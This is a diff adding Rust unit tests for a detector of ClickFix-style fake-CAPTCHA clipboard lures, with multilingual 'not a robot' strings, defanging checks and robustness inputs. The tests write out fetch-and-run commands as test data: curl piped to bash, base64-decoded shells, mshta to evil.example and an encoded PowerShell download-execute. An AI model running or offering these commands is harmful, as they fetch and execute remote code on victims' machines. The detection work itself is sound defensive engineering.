+            "No soy un robot",
+            "Non sono un robot",
+            "Não sou um robô",
+            "Ik ben geen robot",
+            "私はロボットではありません",
+            "Nie jestem robotem",
+            "Nejsem robot",
+            "Я не робот",
+            "Ben robot değilim",
+            "로봇이 아닙니다",
+            "我不是机器人",
+            "Jag är inte en robot",
+            "Jeg er ikke en robot",
+        ] {
+            assert!(judged("cmd /c calc", text), "{text}");
+        }
+    }
+
+    #[test]
+    fn developer_pages_stay_silent() {
+        let docs =
+            "Install. Run the following in your terminal, then press Enter. Paste that in a \
+                    macOS Terminal or Linux shell prompt. Open Terminal (Cmd + Space, Terminal).";
+        assert!(!judged(
+            "curl -fsSL https://example.test/install.sh | sh",
+            docs
+        ));
+        assert!(!judged(
+            "/bin/bash -c \"$(curl -fsSL https://example.test/install.sh)\"",
+            docs
+        ));
+        assert!(!judged("npm install hangup-example", docs));
+        let win = "Open PowerShell and run this command, then press Enter. Copy with Ctrl+V.";
+        assert!(!judged("irm https://example.test/install.ps1 | iex", win));
+        // A Unix install command with Windows words around it: Windows instructions do not
+        // make a shell pipe ClickFix.
+        assert!(!judged(
+            "curl -fsSL https://example.test/install.sh | sh",
+            "Type \\\\wsl$ in the File Explorer address bar. Press Win+R to open the Run dialog."
+        ));
+    }
+
+    #[test]
+    fn mac_variant() {
+        let clip = "echo Y3VybCAtcyBodHRwczovL3guZXhhbXBsZQ== | base64 -d | bash";
+        assert!(judged(
+            clip,
+            "Press Cmd + Space, type Terminal, paste with Cmd + V and press Return"
+        ));
+        assert!(judged(
+            "curl -fsSL https://x.example/i | bash",
+            "Verify you are human: open Terminal and paste"
+        ));
+        assert!(!judged(
+            "curl -fsSL https://x.example/i | bash",
+            "Open Terminal and paste it, press Return"
+        ));
+    }
+
+    #[test]
+    fn defang_makes_it_unrunnable() {
+        let d = defang("mshta https://evil.example/x.hta");
+        assert_eq!(d, "mshta hxxps://evil[.]example/x[.]hta");
+        let d = defang("powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlACkA");
+        assert!(
+            d.starts_with("powershell -enc SQBFAFgAIAAoAGkAdwByACAA…"),
+            "{d}"
+        );
+        assert!(d.chars().count() < 60);
+        assert_eq!(
+            defang("curl x.example|sh;id&x"),
+            "curl x[.]example[|]sh[;]id[&]x"
+        );
+        let long = format!("cmd /c echo {}", "ab cd ".repeat(60));
+        let d = defang(&long);
+        assert_eq!(d.chars().count(), SHOWN_MAX);
+        assert!(d.ends_with('…'));
+        assert!(!defang("HTTPS://X.EXAMPLE").contains("HTTP"));
+        assert_eq!(defang("a\u{202E}b\tc\n\nd"), "ab c d");
+    }
+
+    #[test]
+    fn hostile_inputs_never_panic() {
+        let inputs = [
+            "\u{0}".repeat(10_000),
+            "é".repeat(5000),
+            "|".repeat(5000),
+            " ".repeat(100_000),
+            format!("powershell{}", "-e ".repeat(5000)),
+            "powershell -w".to_string(),
+            "cmd".to_string(),
+            "h".to_string(),
+            "http".repeat(3000),
+            format!("{}#", "\u{2800}".repeat(3000)),
+            "💥 powershell -enc 💥".repeat(400),
+            "curl | | | sh".to_string(),
+        ];
+        for s in &inputs {
+            let _ = recognise(s);
+            let d = defang(s);
+            assert!(d.chars().count() <= SHOWN_MAX);
+            let _ = assess(s, &page(CAPTCHA));
+        }
+        // Bounded: a huge clipboard is read up to its first 4 KB.
+        let huge = format!("{}powershell -enc AAAA", "x".repeat(MAX_CLIPBOARD_BYTES));
+        assert!(recognise(&huge).is_none());
+    }
+
+    #[test]
+    fn key_combos_join() {
+        assert_eq!(join_plus("win + r and ctrl +v"), "win+r and ctrl+v");
+        assert_eq!(join_plus("a + + b"), "a++b");
+    }
+
+    #[test]
+    fn run_dialog_phrases_are_written_joined() {
+        // The page's "Win + R" is read as "win+r": a phrase written with spaces around `+`
+        // would never match.
+        for (lang, packed) in super::super::lexicon::SOURCES {
+            let src = super::super::lexicon::unpack(packed);
+            for line in src.lines() {
+                assert!(
+                    !line.contains(" +") && !line.contains("+ "),
+                    "{lang}: `{line}`"
+                );
+            }
+        }
+    }
+}
